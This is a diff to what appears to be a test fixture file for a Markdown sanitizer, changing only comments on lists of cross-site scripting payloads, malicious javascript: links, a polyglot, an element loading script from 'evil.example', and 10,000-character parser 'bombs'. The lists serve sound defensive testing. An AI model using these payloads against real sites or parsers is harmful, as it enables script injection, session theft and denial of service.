@@ -1,4 +1,4 @@
-/** Scripts in every disguise that browsers ever fell for; each would call `window.__xss`. */
+/** Scripts in every disguise that has ever worked in a browser; each would call `window.__xss`. */
 const SCRIPTS = [
   '<script>__xss(1)</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT>',
@@ -41,7 +41,7 @@ const SCRIPTS = [
   'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */onerror=__xss(1) )//%0D%0A</stYle/</titLe/</scRipt/--!>\\x3csVg/<sVg/oNloAd=__xss(1)//>',
 ];
 
-/** Addresses that lead anywhere but to a web page or a mailbox. */
+/** Addresses that lead to anything but a web page or a mailbox. */
 const ADDRESSES = [
   'javascript:__xss(1)',
   'JaVaScRiPt:__xss(1)',
@@ -69,7 +69,7 @@ const ADDRESSES = [
   'x "onmouseover=__xss(1)"',
 ];
 
-/** Each address as Markdown writes links and pictures. */
+/** Each address as a Markdown link and as a Markdown picture. */
 const LINKS = ADDRESSES.flatMap((address, at) => [
   `[a](${address})`,
   `[a](<${address}>)`,
@@ -93,15 +93,15 @@ const OTHERS = [
   '| a |\n|---|\n| <img src=x onerror=__xss(1)> |',
 ];
 
-/** Eight links at a time, for they do not touch each other; a tag that is left open swallows what comes after it. */
+/** Eight links per text, because they do not affect each other; an unclosed tag swallows what follows. */
 const PAGES_OF_LINKS = Array.from({ length: Math.ceil(LINKS.length / 8) }, (_, page) =>
   LINKS.slice(page * 8, page * 8 + 8).join('\n\n'),
 );
 
-/** Markdown that must come to nothing. */
+/** Markdown that must have no effect. */
 export const HOSTILE_MARKDOWN = [...SCRIPTS, ...PAGES_OF_LINKS, ...OTHERS];
 
-/** Texts that bring a careless parser down, each as long as a description may be. */
+/** Texts that make a careless parser hang, each as long as a description may be. */
 export const MARKDOWN_BOMBS = [
   '>'.repeat(10_000),
   '['.repeat(10_000),
